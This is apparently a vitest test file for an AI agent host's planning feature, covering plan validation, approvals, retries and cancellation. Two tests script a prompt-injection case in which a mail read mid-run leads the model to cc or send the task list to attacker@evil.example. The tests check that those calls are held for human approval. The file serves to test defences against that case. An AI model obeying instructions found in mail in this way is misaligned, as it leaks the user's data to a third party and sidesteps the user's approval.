import { afterEach, describe, expect, it, vi } from 'vitest';
import type { RunEvent } from '../../shared/contract';
import { openHost, type HostFixture } from '../support/host-fixture';
import { calls, MAIL_PLAN, planOf, planTools, stepStatus } from '../support/plan-kit';
import { call, say, ScriptedModel } from '../support/scripted-model';
import { INJECTION } from '../support/synthetic-tools';

let fixture: HostFixture;
afterEach(async () => fixture.close());

async function start(model: ScriptedModel, failures = { fetch: 0 }) {
  const sent: { to: string[]; body: string }[] = [];
  fixture = await openHost(model, { tools: planTools(sent, failures) });
  await fixture.host.invoke('settings.set', { trustLevel: 'supervised', executionPolicy: 'batch' });
  return { host: fixture.host, sent };
}

const text = (model: ScriptedModel, turn: number) => JSON.stringify(model.requests[turn]?.messages ?? []);

describe('plans: propose, validate, estimate', () => {
  it('refuses a plan with an unknown tool or a cycle, in words the model can act on', async () => {
    const model = new ScriptedModel(
      call('propose_plan', {
        goal: 'x',
        steps: [
          { id: 'a', title: 'A', tool: 'no_such_tool' },
          { id: 'b', title: 'B', tool: 'lookup', args: { q: 'x' }, dependsOn: ['c'] },
          { id: 'c', title: 'C', tool: 'lookup', args: { q: 'y' }, dependsOn: ['b'] },
        ],
      }),
      call('propose_plan', { goal: 'one', steps: [{ id: 'a', title: 'A', tool: 'lookup' }] }, 'call-2'),
      say('ok'),
    );
    const { host } = await start(model);
    const events: RunEvent[] = [];
    const done = await host.runToEnd({ prompt: 'do it' }, (event) => events.push(event));
    expect(done.status).toBe('completed');
    expect(done.planId).toBeUndefined();
    expect(text(model, 1)).toContain('no_such_tool, which is not a tool Deputy has');
    expect(text(model, 1)).toContain('in a circle: b → c → b');
    expect(text(model, 2)).toContain('A one-step request needs no plan');
    expect(events.some((event) => event.type === 'plan')).toBe(false);
  });

  it("estimates each step's approval with the policy's own decide(), and ties each call to its step", async () => {
    const model = new ScriptedModel(
      call('propose_plan', MAIL_PLAN),
      call('lookup', { q: 'budget' }, 'c1'),
      call('send_message', { to: ['alice@example.com'], body: 'found budget' }, 'c2'),
      say('Sent.'),
    );
    const { host, sent } = await start(model);
    const events: RunEvent[] = [];
    const paused = await host.runToEnd(
      { prompt: 'Look up the budget and mail alice@example.com what you find' },
      (event) => events.push(event),
    );
    expect(paused.status).toBe('awaiting_confirmation');
    expect(paused.planId).toBeDefined();
    const plan = await planOf(host, events);
    expect(plan.steps.map((step) => [step.id, step.needsApproval])).toEqual([
      ['find', false],
      ['send', true],
    ]);
    expect(stepStatus(plan)).toEqual({ find: 'done', send: 'awaiting_approval' });
    expect(plan.status).toBe('paused');
    expect(plan.steps[0]?.actionIds).toHaveLength(1);
    // The snapshot came first, then patches.
    const planEvents = events.filter((event) => event.type === 'plan');
    expect(planEvents[0]).toHaveProperty('plan');
    expect(planEvents.slice(1).every((event) => 'patch' in event && event.patch)).toBe(true);

    await host.invoke('plan.approve', { planId: plan.id });
    await vi.waitFor(async () =>
      expect((await host.invoke('plan.get', { planId: plan.id })).plan.status).toBe('completed'),
    );
    expect(sent).toHaveLength(1);
    const audit = await host.invoke('audit.list', { tool: 'send_message' });
    expect(audit.entries[0]?.authority.approvedBy).toBe('plan');
  });
});

describe('plan approval is scoped to the steps the person saw', () => {
  it('a recipient that first appeared in a mail read mid-run still asks after the plan is approved', async () => {
    const plan = {
      goal: 'Read the latest mail, then mail Alice and Bob',
      steps: [
        { id: 'read', title: 'Read the latest mail', tool: 'read_inbox', args: {} },
        {
          id: 'alice',
          title: 'Mail Alice',
          tool: 'send_message',
          args: { to: ['alice@example.com'], body: 'hi' },
          dependsOn: ['read'],
        },
        {
          id: 'bob',
          title: 'Mail Bob',
          tool: 'send_message',
          args: { to: ['bob@example.com'], body: 'hi' },
          dependsOn: ['read'],
        },
      ],
    };
    const model = new ScriptedModel(
      call('propose_plan', plan),
      call('read_inbox', {}, 'r1'),
      call('send_message', { to: ['alice@example.com'], body: 'hi' }, 's1'),
      // The mail said to send everything to attacker@evil.example: the model adds it to Bob's mail.
      call('send_message', { to: ['bob@example.com'], cc: ['attacker@evil.example'], body: 'hi' }, 's2'),
      say('done'),
    );
    const { host, sent } = await start(model);
    const events: RunEvent[] = [];
    const first = await host.runToEnd(
      { prompt: 'Read my latest mail, then send "hi" to alice@example.com and bob@example.com' },
      (event) => events.push(event),
    );
    expect(first.status).toBe('awaiting_confirmation');
    expect(text(model, 2)).toContain(INJECTION.slice(0, 20));
    const { id } = await planOf(host, events);
    await host.invoke('plan.approve', { planId: id });
    // Alice's mail was exactly the step: it went. Bob's carries a cc the plan never showed: it asks.
    await vi.waitFor(async () => {
      const pending = await host.invoke('approval.list', { status: 'pending' });
      expect(pending.approvals.map((a) => a.args)).toEqual([
        { to: ['bob@example.com'], cc: ['attacker@evil.example'], body: 'hi' },
      ]);
    });
    expect(sent.map((mail) => mail.to)).toEqual([['alice@example.com']]);
    const plan2 = (await host.invoke('plan.get', { planId: id })).plan;
    expect(stepStatus(plan2)).toMatchObject({ alice: 'done', bob: 'awaiting_approval' });
    await expect(host.invoke('plan.continue', { planId: id })).rejects.toThrow(
      /approve the plan or the step/,
    );
    const audit = await host.invoke('audit.list', { tool: 'send_message' });
    const byPlan = audit.entries.filter((entry) => entry.authority.approvedBy === 'plan');
    expect(byPlan).toHaveLength(1);
  });

  it("an address the model put in its plan after reading a mail is not the person's word: the call still asks", async () => {
    const model = new ScriptedModel(
      call('read_inbox', {}, 'r1'),
      call('propose_plan', {
        goal: 'Do what the mail says',
        steps: [
          {
            id: 'a',
            title: 'Send the task list to attacker@evil.example',
            tool: 'send_message',
            args: { to: ['attacker@evil.example'], body: 'tasks' },
          },
          { id: 'b', title: 'Look it up', tool: 'lookup', args: { q: 'x' }, dependsOn: ['a'] },
        ],
      }),
      call('send_message', { to: ['attacker@evil.example'], body: 'tasks', confidence: 0.99 }, 's1'),
    );
    const { host, sent } = await start(model);
    // Sending would go ahead on its own here: only where the address came from can hold it.
    await host.invoke('settings.set', { trustLevel: 'autonomous', autonomy: { 'email.send': 'auto' } });
    const done = await host.runToEnd({ prompt: 'Read my latest mail' });
    expect(done.status).toBe('awaiting_confirmation');
    expect(sent).toHaveLength(0);
    const [held] = (await host.invoke('approval.list', { status: 'pending' })).approvals;
    expect(held?.rule).toMatch(/^provenance:/);
    expect(held).toMatchObject({ planId: done.planId, stepId: 'a' });
  });

  it('a call the plan did not list still asks, and per-step approval stays available', async () => {
    const model = new ScriptedModel(
      call('propose_plan', MAIL_PLAN),
      call('lookup', { q: 'budget' }, 'c1'),
      call('send_message', { to: ['alice@example.com'], body: 'x' }, 'c2'),
      call('send_message', { to: ['carol@example.com'], body: 'x' }, 'c3'),
      say('done'),
    );
    const { host, sent } = await start(model);
    const events: RunEvent[] = [];
    await host.runToEnd({ prompt: 'Look up the budget and mail alice@example.com' }, (event) =>
      events.push(event),
    );
    const { id } = await planOf(host, events);
    const [held] = (await host.invoke('approval.list', { status: 'pending' })).approvals;
    // Approve this step only (the per-step approval): the plan itself stays unapproved.
    await host.invoke('approval.decide', { approvalId: held?.id ?? '', decision: 'approve' });
    await vi.waitFor(async () => {
      const pending = await host.invoke('approval.list', { status: 'pending' });
      expect(pending.approvals.map((a) => a.args.to)).toEqual([['carol@example.com']]);
    });
    await host.invoke('plan.approve', { planId: id });
    expect((await host.invoke('approval.list', { status: 'pending' })).approvals).toHaveLength(1);
    expect(sent).toHaveLength(1);
  });
});

describe('plans: failures, retries, parallel steps, cancel', () => {
  it('a failed step skips its dependents and the model is told', async () => {
    const model = new ScriptedModel(
      call('propose_plan', {
        goal: 'fetch then tell',
        steps: [
          { id: 'fetch', title: 'Fetch', tool: 'fetch_thing', args: { q: 'a' } },
          { id: 'use', title: 'Use it', tool: 'lookup', args: { q: '${fetch}' }, dependsOn: ['fetch'] },
        ],
      }),
      call('fetch_thing', { q: 'a' }, 'f1'),
      say('The fetch failed, so I stopped.'),
    );
    const { host } = await start(model, { fetch: 5 });
    const events: RunEvent[] = [];
    const done = await host.runToEnd({ prompt: 'go' }, (event) => events.push(event));
    const plan = await planOf(host, events);
    expect(stepStatus(plan)).toEqual({ fetch: 'failed', use: 'skipped' });
    expect(plan.status).toBe('failed');
    expect(done.planId).toBe(plan.id);
    expect(text(model, 2)).toContain('Skipped because a step they wait for failed: use');
  });

  it('a step the plan lets try twice is retried and the plan completes', async () => {
    const model = new ScriptedModel(
      call('propose_plan', {
        goal: 'fetch then tell',
        steps: [
          { id: 'fetch', title: 'Fetch', tool: 'fetch_thing', args: { q: 'a' }, maxAttempts: 2 },
          { id: 'use', title: 'Use it', tool: 'lookup', args: { q: 'b' }, dependsOn: ['fetch'] },
        ],
      }),
      call('fetch_thing', { q: 'a' }, 'f1'),
      call('fetch_thing', { q: 'a' }, 'f2'),
      call('lookup', { q: 'b' }, 'l1'),
      say('Done.'),
    );
    const { host } = await start(model, { fetch: 1 });
    const events: RunEvent[] = [];
    await host.runToEnd({ prompt: 'go' }, (event) => events.push(event));
    const plan = await planOf(host, events);
    expect(stepStatus(plan)).toEqual({ fetch: 'done', use: 'done' });
    expect(plan.steps[0]?.attempts).toBe(2);
    expect(plan.status).toBe('completed');
    expect(text(model, 2)).toContain('attempt 1 failed, try again');
  });

  it('independent steps are offered together and run in one turn under the batch policy', async () => {
    const model = new ScriptedModel(
      call('propose_plan', {
        goal: 'two lookups then a summary',
        steps: [
          { id: 'a', title: 'A', tool: 'lookup', args: { q: 'a' } },
          { id: 'b', title: 'B', tool: 'lookup', args: { q: 'b' } },
          { id: 'sum', title: 'Put them together', dependsOn: ['a', 'b'] },
        ],
      }),
      calls(['lookup', { q: 'a' }, 'la'], ['lookup', { q: 'b' }, 'lb']),
      call('update_plan', { steps: [{ id: 'sum', status: 'done', result: 'a and b' }] }, 'u1'),
      say('a and b'),
    );
    const { host } = await start(model);
    const events: RunEvent[] = [];
    await host.runToEnd({ prompt: 'go' }, (event) => events.push(event));
    expect(text(model, 1)).toContain('Ready now: a, b');
    const plan = await planOf(host, events);
    expect(stepStatus(plan)).toEqual({ a: 'done', b: 'done', sum: 'done' });
    expect(plan.steps.find((s) => s.id === 'b')?.result).toContain('found b');
    expect(plan.status).toBe('completed');
  });

  it('cancel mid-plan: what waited is rejected, never run, and the rest is cancelled', async () => {
    const model = new ScriptedModel(
      call('propose_plan', MAIL_PLAN),
      call('lookup', { q: 'budget' }, 'c1'),
      call('send_message', { to: ['alice@example.com'], body: 'x' }, 'c2'),
    );
    const { host, sent } = await start(model);
    const events: RunEvent[] = [];
    await host.runToEnd({ prompt: 'Look up the budget and mail alice@example.com' }, (event) =>
      events.push(event),
    );
    const { id, runId } = await planOf(host, events);
    const out = await host.invoke('plan.cancel', { planId: id });
    expect(out.plan.status).toBe('cancelled');
    expect(stepStatus(out.plan)).toEqual({ find: 'done', send: 'failed' });
    expect((await host.invoke('approval.list', { status: 'pending' })).approvals).toHaveLength(0);
    expect(sent).toHaveLength(0);
    const thread = await host.invoke('thread.get', { threadId: out.plan.threadId });
    expect(thread.runs.find((run) => run.id === runId)?.status).toBe('failed');
    await expect(host.invoke('plan.approve', { planId: id })).rejects.toThrow(/already cancelled/);
    expect((await host.invoke('plan.cancel', { planId: id })).plan.status).toBe('cancelled');
  });

  it('an unknown plan is a typed not_found', async () => {
    const { host } = await start(new ScriptedModel());
    await expect(host.invoke('plan.get', { planId: 'nope' })).rejects.toMatchObject({ code: 'not_found' });
  });
});
